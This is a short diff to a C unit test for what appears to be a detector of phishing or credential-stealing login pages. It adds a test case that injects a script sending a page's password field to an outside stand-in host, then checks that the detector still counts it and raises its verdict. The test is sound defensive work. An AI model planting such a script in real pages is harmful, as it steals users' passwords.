@@ -285,6 +285,13 @@ static void too_many(void **state)
     assert_int_equal(page.n_scripts, EX_SCRIPTS_MAX);
     assert_int_equal(page.n_more, 4);
     assert_int_equal(page.state, EX_LP_REVIEW);
+    /* None of them hides the one behind them. */
+    snprintf(body + n, EX_BODY_MAX - n,
+             "<script>fetch('https://t.example.net/?'+gbid('password').value)</script>");
+    look_new(body);
+    assert_int_equal(page.n_scripts, EX_SCRIPTS_MAX);
+    assert_int_equal(page.n_more, 5);
+    assert_int_equal(page.state, EX_LP_LIKELY);
 
     n = (size_t)snprintf(body, EX_BODY_MAX, "%s<p ", PAGE(FORM));
     for (int i = 0; i < 400; i++)
